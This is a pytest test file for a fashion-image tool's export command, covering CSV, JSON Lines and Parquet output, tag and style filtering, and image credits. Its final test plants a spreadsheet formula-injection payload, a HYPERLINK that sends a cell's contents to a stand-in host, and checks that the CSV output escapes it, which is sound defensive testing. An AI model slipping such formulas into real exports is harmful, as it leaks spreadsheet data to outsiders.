"""`stylescout export`: the store, a tag, a source or a style as rows a person can take away,
and the files with readable names."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from store import Store
from tests.conftest import jpeg_bytes, meta_for
from tests.integration.helpers import run_cli_here


@pytest.fixture
def data(tmp_path: Path) -> Path:
    """Four images: two #boho, two #street; image 2 also seen on a second site; labels."""
    data = tmp_path / "data"
    with Store(data) as store:
        for seed in range(4):
            tag = "boho" if seed < 2 else "street"
            result = store.images.add_image_bytes(
                jpeg_bytes(seed),
                meta_for(seed, posted_at=f"2026-11-0{seed + 1}T10:00:00+00:00", likes=seed),
                [tag, "ootd"],
                labels={"articleType": ["Tops", "Dresses", "Jeans", "Tops"][seed]},
            )
            if seed == 2:
                store.images.add_post(
                    result.image_id,
                    meta_for(2, source="mastodon", post_url="https://m.example/@a/1", likes=9),
                )
    return data


def _export(data: Path, *args: str) -> tuple[int, str, str]:
    done = run_cli_here("clustering", "export", "--data-dir", str(data), *args)
    return done.returncode, done.stdout, done.stderr


def test_the_store_as_csv_one_row_per_image(data: Path) -> None:
    code, out, err = _export(data)
    assert code == 0, err
    rows = list(csv.DictReader(io.StringIO(out)))
    assert [int(r["id"]) for r in rows] == [1, 2, 3, 4]
    third = rows[2]
    assert third["post_urls"].split() == ["http://127.0.0.1/p/2", "https://m.example/@a/1"]
    assert third["sources"] == "mastodon test" and third["likes"] == "9"
    assert third["tags"] == "ootd street" and third["label_articleType"] == "Jeans"
    assert Path(third["file"]).is_file() and third["file"].endswith(third["sha256"] + ".jpg")
    assert third["style"] == "" and third["style_name"] == ""  # no index built yet
    assert err.strip().endswith("exported 4 images as csv to standard output")


def test_a_tag_or_a_source_as_json_lines_and_the_files_by_name(data: Path, tmp_path: Path) -> None:
    out = tmp_path / "boho.jsonl"
    code, _, err = _export(
        data, "--tag", "#Boho", "--format", "jsonl", "--out", str(out),
        "--with-images", str(tmp_path / "photos"),
    )  # fmt: skip
    assert code == 0, err
    rows = [json.loads(line) for line in out.read_text().splitlines()]
    assert [r["id"] for r in rows] == [1, 2] and rows[1]["labels"] == {"articleType": "Dresses"}
    copied = sorted(
        p.relative_to(tmp_path / "photos").as_posix() for p in (tmp_path / "photos").rglob("*.jpg")
    )
    assert copied == ["no-style/1-boho-ootd.jpg", "no-style/2-boho-ootd.jpg"]
    assert "2 files copied" in err
    code, out_text, _ = _export(data, "--source", "mastodon", "--format", "jsonl")
    assert [json.loads(line)["id"] for line in out_text.splitlines()] == [3]
    code, _, err = _export(data, "--tag", "bohoo")
    assert code == 2 and "no image in the store has the tag 'bohoo' (did you mean 'boho'?)" in err


def test_parquet_and_what_cannot_be_exported(data: Path, tmp_path: Path) -> None:
    pq = pytest.importorskip("pyarrow.parquet")
    target = tmp_path / "all.parquet"
    code, _, err = _export(data, "--format", "parquet", "--out", str(target))
    assert code == 0, err
    table = pq.read_table(target).to_pylist()
    assert [r["id"] for r in table] == [1, 2, 3, 4] and table[0]["tags"] == ["boho", "ootd"]
    assert _export(data, "--format", "parquet")[0] == 2  # to standard output: no
    code, _, err = _export(data, "--style", "3")
    assert code == 2 and "needs a style index" in err
    missing = tmp_path / "nowhere"
    assert _export(missing)[0] == 2 and not missing.exists()


@pytest.mark.model  # builds a Keras backbone: not in make test-fast
def test_a_style_with_its_name_and_its_files(tmp_path: Path) -> None:
    from clustering.build import build_index
    from tests.integration.test_engine import engine_config, fill_store

    data = tmp_path / "data"
    with Store(data) as store:
        fill_store(store, per_family=4)
        _, index = build_index(engine_config(data, min_size=2).engine, store)
    names = index.meta.names
    code, out, err = _export(data, "--style", "1", "--format", "jsonl")
    assert code == 0, err
    rows = [json.loads(line) for line in out.splitlines()]
    assert rows and {(r["style"], r["style_name"]) for r in rows} == {(1, names[0])}
    assert len(rows) == int(index.sizes[0])
    by_name = _export(data, "--style", names[0].upper(), "--format", "jsonl")[1]
    assert by_name == out  # by its name too, whatever the case
    code, _, err = _export(data, "--style", str(len(names) + 1))
    assert code == 2 and f"give its number (1-{len(names)}) or its name" in err


def test_each_row_carries_the_credit_of_its_first_post(tmp_path: Path) -> None:
    data = tmp_path / "data"
    credit = {
        "author": "Ana B.",
        "author_url": "https://www.flickr.com/people/1@N01/",
        "licence": "CC-BY-2.0",
    }
    with Store(data) as store:
        first = store.images.add_image_bytes(jpeg_bytes(1), meta_for(1, **credit), ["boho"])
        store.images.add_post(first.image_id, meta_for(9, post_url="https://x/p/9", author="ben"))
        store.images.add_image_bytes(jpeg_bytes(2), meta_for(2), ["boho"])
    code, out, err = _export(data)
    assert code == 0, err
    rows = list(csv.DictReader(io.StringIO(out)))
    assert {k: rows[0][k] for k in credit} == credit  # the first post's, not the repost's
    assert (rows[1]["author"], rows[1]["author_url"], rows[1]["licence"]) == ("", "", "")
    code, out, err = _export(data, "--format", "jsonl")
    assert code == 0, err
    lines = [json.loads(line) for line in out.splitlines()]
    assert {k: lines[0][k] for k in credit} == credit and lines[1]["licence"] is None


def test_text_from_other_peoples_posts_never_runs_in_a_spreadsheet(tmp_path: Path) -> None:
    data = tmp_path / "data"
    hostile = '=HYPERLINK("http://x.example/?"&A1,"click")'
    with Store(data) as store:
        meta = meta_for(1, caption=hostile, author="@SUM(1+1)", likes=3)
        store.images.add_image_bytes(jpeg_bytes(1), meta, ["boho"], labels={"usage": "+cmd"})
    code, out, err = _export(data)
    assert code == 0, err
    (row,) = list(csv.DictReader(io.StringIO(out)))
    assert row["caption"] == "'" + hostile and row["author"] == "'@SUM(1+1)"
    assert row["label_usage"] == "'+cmd"
    code, out, err = _export(data, "--format", "jsonl")  # JSON is data, not a sheet: as it came
    assert json.loads(out)["caption"] == hostile
